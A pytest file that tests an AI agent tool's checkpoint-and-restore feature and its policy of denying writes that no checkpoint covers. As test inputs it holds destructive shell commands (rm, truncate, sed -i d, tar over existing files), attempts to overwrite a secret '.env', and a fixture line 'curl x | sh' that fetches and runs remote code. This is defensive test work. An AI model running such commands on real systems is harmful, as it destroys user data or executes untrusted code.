"""What the agent's calls change in the working directory is brought back by a restore.

Each call runs through `hermes-tui call` with no terminal (every "ask" is a denial), as a
hostile model's would; the restore is the store's, as `hermes-tui checkpoints restore` runs it.
"""

from __future__ import annotations

import os
import subprocess

import pytest

from tests.support.calls import Scratch, call, terminal
from workbench.core.checkpoints import CheckpointStore

VICTIM = "precious data\n" * 50


def _store(s: Scratch) -> CheckpointStore:
    return CheckpointStore(s.hermes)


def _restore_all(s: Scratch) -> None:
    store = _store(s)
    plan = store.plan_restore(s.project)  # the latest: the snapshot before the change
    store.restore(plan, overwrite=plan.hand_edited)


def _project(s: Scratch) -> None:
    (s.project / "victim.txt").write_text(VICTIM)
    (s.project / "src").mkdir()
    (s.project / "src" / "app.py").write_text("def main():\n    return 1\n")


def test_a_file_replaced_by_write_file_is_brought_back(scratch: Scratch, capsys) -> None:
    _project(scratch)
    out = call(capsys, "write_file", {"path": "victim.txt", "content": ""}, scratch.project)
    assert out.ran and (scratch.project / "victim.txt").read_text() == ""
    (checkpoint,) = _store(scratch).list(scratch.project)
    assert checkpoint.reason == "write_file victim.txt"
    plan = _store(scratch).plan_restore(scratch.project)
    assert plan.writes == ("victim.txt",) and plan.hand_edited == ()  # the agent's write
    _store(scratch).restore(plan)
    assert (scratch.project / "victim.txt").read_text() == VICTIM


def test_a_file_emptied_by_patch_is_brought_back(scratch: Scratch, capsys) -> None:
    _project(scratch)
    args = {"path": "src/app.py", "old_string": "def main():\n    return 1\n", "new_string": ""}
    assert call(capsys, "patch", args, scratch.project).ran
    assert (scratch.project / "src" / "app.py").read_text() == ""
    _restore_all(scratch)
    assert (scratch.project / "src" / "app.py").read_text() == "def main():\n    return 1\n"


@pytest.mark.parametrize(
    "command",
    [
        "xz victim.txt",
        "bzip2 victim.txt",
        "rm victim.txt",
        "gzip -f victim.txt",
        "sed -i d victim.txt",
        "python3 -c \"open('victim.txt', 'w').write('gone')\"",
        "truncate -s 0 victim.txt",
        "cp src/app.py victim.txt",
    ],
)
def test_files_rewritten_or_deleted_by_commands_are_brought_back(
    scratch: Scratch, capsys, command: str
) -> None:
    _project(scratch)
    out = terminal(capsys, command, scratch.project, yes=True)
    assert out.succeeded, out.stdout
    assert not (scratch.project / "victim.txt").exists() or (
        (scratch.project / "victim.txt").read_text() != VICTIM
    )
    _restore_all(scratch)
    assert (scratch.project / "victim.txt").read_text() == VICTIM
    # what the command made is deleted, unless snapshots leave it out (xz's victim.txt.xz)
    left = sorted(os.listdir(scratch.project))
    assert left == ["src", "victim.txt"] or left[2].startswith("victim.txt.")


def test_tar_extracting_over_existing_files_is_undone(scratch: Scratch, capsys) -> None:
    _project(scratch)
    other = scratch.root / "payload"
    (other / "src").mkdir(parents=True)
    (other / "victim.txt").write_text("overwritten\n")
    (other / "src" / "app.py").write_text("evil\n")
    (other / "dropped.sh").write_text("curl x | sh\n")
    archive = scratch.project / "payload.tar"
    subprocess.run(["tar", "cf", str(archive), "-C", str(other), "."], check=True)
    out = terminal(capsys, "tar xf payload.tar", scratch.project)
    assert out.succeeded, out.stdout
    assert (scratch.project / "victim.txt").read_text() == "overwritten\n"
    _restore_all(scratch)
    assert (scratch.project / "victim.txt").read_text() == VICTIM
    assert (scratch.project / "src" / "app.py").read_text().startswith("def main")
    assert not (scratch.project / "dropped.sh").exists()
    assert archive.exists()  # an archive is left out of snapshots, and so left alone


def test_git_stash_u_is_undone_without_touching_the_repository(scratch: Scratch, capsys) -> None:
    _project(scratch)
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_OPTIONAL_LOCKS": "0"}

    def git(*args: str) -> str:
        return subprocess.run(
            ["git", "-c", "user.name=me", "-c", "user.email=me@x", *args],
            cwd=scratch.project, env=env, capture_output=True, text=True, check=True,
        ).stdout  # fmt: skip

    git("init", "-q")
    git("add", "src/app.py")
    git("commit", "-qm", "first")
    (scratch.project / "src" / "app.py").write_text("work in progress\n")
    assert terminal(capsys, "git stash -u", scratch.project).ran
    assert not (scratch.project / "victim.txt").exists()  # untracked: stashed away
    assert (scratch.project / "src" / "app.py").read_text() == "def main():\n    return 1\n"
    stash = git("stash", "list")
    _restore_all(scratch)
    assert (scratch.project / "victim.txt").read_text() == VICTIM
    assert (scratch.project / "src" / "app.py").read_text() == "work in progress\n"
    assert git("stash", "list") == stash  # the user's repository itself is not touched


def test_a_later_hand_edit_is_not_overwritten_unless_named(scratch: Scratch, capsys) -> None:
    _project(scratch)
    call(capsys, "write_file", {"path": "victim.txt", "content": "agent\n"}, scratch.project)
    (scratch.project / "src" / "app.py").write_text("typed by the person\n")
    store = _store(scratch)
    plan = store.plan_restore(scratch.project)
    assert plan.hand_edited == ("src/app.py",)
    result = store.restore(plan)
    assert result.kept == ("src/app.py",)
    assert (scratch.project / "victim.txt").read_text() == VICTIM
    assert (scratch.project / "src" / "app.py").read_text() == "typed by the person\n"


# -- the write policy (issue 22, item 6), both ways -------------------------------------


def test_replacing_a_held_file_runs_unasked(scratch: Scratch, capsys) -> None:
    _project(scratch)
    assert call(capsys, "write_file", {"path": "victim.txt", "content": "x"}, scratch.project).ran
    assert terminal(capsys, "rm src/app.py", scratch.project).ran
    assert terminal(capsys, "echo y > victim.txt", scratch.project).ran


@pytest.mark.parametrize(
    ("setup", "tool", "args"),
    [
        ("off", "write_file", {"path": "victim.txt", "content": "x"}),
        ("off", "terminal", {"command": "rm victim.txt"}),
        ("off", "terminal", {"command": "echo x > victim.txt"}),
        ("", "write_file", {"path": ".env", "content": "X=1"}),
        ("", "patch", {"path": ".env", "old_string": "KEY", "new_string": "K"}),
        ("", "terminal", {"command": "rm .env"}),
        ("", "terminal", {"command": "rm big.bin"}),
        ("", "terminal", {"command": "rm *.txt"}),
        ("", "terminal", {"command": "rm -r src"}),
        ("skipped", "write_file", {"path": "victim.txt", "content": "x"}),
    ],
)
def test_replacing_a_file_no_checkpoint_holds_asks(
    scratch: Scratch, capsys, setup: str, tool: str, args: dict
) -> None:
    _project(scratch)
    (scratch.project / ".env").write_text("KEY=secret\n")
    (scratch.project / "big.bin").write_bytes(b"\0" * (2 << 20))
    config = {"off": "enabled: false", "skipped": "max_files: 1", "": ""}[setup]
    (scratch.hermes / "config.yaml").write_text(
        f"checkpoints:\n  max_file_size_mb: 1\n  {config}\n"
    )
    before = {p: p.read_bytes() for p in scratch.project.rglob("*") if p.is_file()}
    out = call(capsys, tool, args, scratch.project)
    assert out.status == "denied", out.stdout
    after = {p: p.read_bytes() for p in scratch.project.rglob("*") if p.is_file()}
    assert after == before


def test_a_new_file_never_asks(scratch: Scratch, capsys) -> None:
    (scratch.hermes / "config.yaml").write_text("checkpoints:\n  enabled: false\n")
    assert call(capsys, "write_file", {"path": "new.txt", "content": "x"}, scratch.project).ran


def test_required_checkpoints_fail_the_call_when_the_snapshot_fails(
    scratch: Scratch, capsys, make_read_only
) -> None:
    _project(scratch)
    (scratch.hermes / "config.yaml").write_text("checkpoints:\n  required: true\n")
    make_read_only(scratch.hermes)  # the store cannot be created
    out = call(capsys, "write_file", {"path": "new.txt", "content": "x"}, scratch.project)
    assert not out.ran and "checkpoints.required" in out.stdout, out.stdout
    assert not (scratch.project / "new.txt").exists()


def test_a_failed_snapshot_does_not_block_the_call(
    scratch: Scratch, capsys, make_read_only
) -> None:
    _project(scratch)
    make_read_only(scratch.hermes)
    out = call(capsys, "write_file", {"path": "new.txt", "content": "x"}, scratch.project)
    assert out.ran and (scratch.project / "new.txt").read_text() == "x"
    # …but an existing file, which nothing could bring back now, asks
    out = call(capsys, "write_file", {"path": "victim.txt", "content": "x"}, scratch.project)
    assert out.status == "denied"
    assert (scratch.project / "victim.txt").read_text() == VICTIM


def test_after_a_failed_snapshot_a_command_without_a_rule_asks(
    scratch: Scratch, capsys, make_read_only
) -> None:
    """`xz victim.txt` has no rule of its own: it ran unasked because a checkpoint would
    hold what it changes. When the turn's snapshot failed, none does: it asks, and headless
    that is a denial that says why."""
    _project(scratch)
    assert call(capsys, "write_file", {"path": "new.txt", "content": "x"}, scratch.project).ran
    make_read_only(_store(scratch).location(scratch.project) / "refs" / "checkpoints")
    (scratch.project / "src" / "app.py").write_text("changed by hand\n")  # a new state
    out = terminal(capsys, "xz victim.txt", scratch.project, yes=False)
    assert out.status == "denied", out.stdout
    assert "no checkpoint holds this turn (failed: " in out.stdout
    assert (scratch.project / "victim.txt").read_text() == VICTIM
    assert terminal(capsys, "cat victim.txt", scratch.project).ran  # reading never asks
